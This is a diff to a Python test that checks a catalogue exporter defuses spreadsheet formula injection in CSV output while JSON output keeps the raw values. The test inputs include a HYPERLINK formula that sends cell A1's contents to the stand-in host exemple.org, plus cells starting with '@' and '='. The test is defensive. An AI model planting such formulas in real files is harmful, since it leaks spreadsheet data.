@@ -287,18 +287,21 @@ def test_csv_neutralises_formulas_json_keeps_them(valid_repo: Path, start: str) 
     title = f'{start}HYPERLINK("https://exemple.org/?"&A1;"clic")'
     replace(valid_repo, "fiches/initiative-solidaire.md", "title: Qu'est-ce qu'une initiative solidaire ?", "title: " + json.dumps(title))
     replace(
-        valid_repo, "fiches/initiative-solidaire.md", "  - Communauté apprenante du MES", "  - '@équipe'\n  - Communauté apprenante du MES"
+        valid_repo,
+        "fiches/initiative-solidaire.md",
+        "  - Communauté apprenante du MES",
+        "  - '@équipe'\n  - Communauté apprenante du MES\n  - '=réseau'",
     )
     assert check(valid_repo).ok
     files = exports(valid_repo)
     row = next(r for r in csv_rows(files) if r["id"] == "initiative-solidaire")
     assert row["title"] == "'" + title
-    assert row["authors"] == "'@équipe;Communauté apprenante du MES"
+    assert row["authors"] == "'@équipe;Communauté apprenante du MES;'=réseau"  # each item, as `;` may split cells
     assert all(not value.startswith(("=", "+", "-", "@")) for r in csv_rows(files) for value in r.values())
     spreadsheet = list(csv.reader(io.StringIO(files["catalogue-tableur.csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in spreadsheet for cell in row)
     record = next(e for e in entries_json(files) if e["id"] == "initiative-solidaire")
-    assert (record["title"], record["authors"]) == (title, ["@équipe", "Communauté apprenante du MES"])
+    assert (record["title"], record["authors"]) == (title, ["@équipe", "Communauté apprenante du MES", "=réseau"])
 
 
 def test_a_semicolon_inside_a_list_item_never_splits_it_in_the_csv() -> None:
